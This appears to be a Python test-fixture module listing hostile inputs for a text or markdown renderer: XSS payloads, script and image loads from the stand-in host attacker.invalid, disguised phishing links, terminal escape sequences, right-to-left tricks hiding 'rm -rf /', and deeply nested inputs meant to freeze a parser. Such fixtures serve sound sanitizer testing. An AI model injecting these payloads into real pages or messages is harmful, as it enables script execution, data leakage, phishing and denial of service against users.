"""Texts that try to run in a page, to load something from another server, to freeze it, or to hide what they are."""

from collections.abc import Mapping
from typing import Final

ORIGIN: Final = "http://attacker.invalid"
_RUN: Final = "window.__executed=1"
_BELL, _ESCAPE = "\x07", "\x1b"

TEXTS: Final[Mapping[str, str]] = {
    "script": f"<script>{_RUN}</script>",
    "script from elsewhere": f'<script src="{ORIGIN}/a.js"></script>',
    "image with a handler": f'"><img src=x onerror="{_RUN}">',
    "svg": f"<svg onload={_RUN}><animate onbegin={_RUN} attributeName=x dur=1s>",
    "frame": f'<iframe srcdoc="<script>parent.__executed=1</script>" src="javascript:{_RUN}"></iframe>',
    "base and form": f'<base href="{ORIGIN}/"><form action="{ORIGIN}"><button autofocus onfocus="{_RUN}">Go</button>',
    "style": f'<style>@import "{ORIGIN}/a.css"; body {{ background: url({ORIGIN}/b) }}</style>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={ORIGIN}">',
    "link with a script": f"[click](javascript:{_RUN}) [data](data:text/html,<script>{_RUN}</script>)",
    "disguised link": f"[https://example.com]({ORIGIN}/login) <{ORIGIN}/auto> {ORIGIN}/bare",
    "remote image": f"![status]({ORIGIN}/pixel.png) ![ref][r]\n\n[r]: {ORIGIN}/ref.png",
    "image in HTML": f'<img src="{ORIGIN}/html.png" srcset="{ORIGIN}/2x.png 2x"><video src="{ORIGIN}/v.mp4" autoplay>',
    "template": "{{constructor.constructor('window.__executed=1')()}} ${window.__executed=1} #{1}",
    "entities": f"&lt;script&gt;{_RUN}&lt;/script&gt; &#x3c;img src=x onerror={_RUN}&#x3e;",
    "terminal sequences": f"{_ESCAPE}]8;;{ORIGIN}{_BELL}link{_ESCAPE}]8;;{_BELL} {_ESCAPE}[2J{_ESCAPE}]0;title{_BELL}",
    "bidirectional": "safe \u202egpj.exe\u202c \u2066rm -rf /\u2069 \u200bhidden\u200b",
    "combining": "Z" + "\u0301\u0300\u0302" * 400,
    "one long line": "x" * 200_000,
    "deep quotes": "> " * 3000 + "deep",
    "deep lists": "\n".join("  " * depth + "- item" for depth in range(400)),
    "brackets": "[" * 5000 + "](" * 5000,
    "emphasis": "*_" * 5000 + "a**" * 5000,
    "wide table": "|" + "a|" * 2000 + "\n|" + "-|" * 2000 + "\n|" + "b|" * 2000,
    "open fence": "```" + "x" * 300 + "\n" + f"<script>{_RUN}</script>\n" * 500,
}
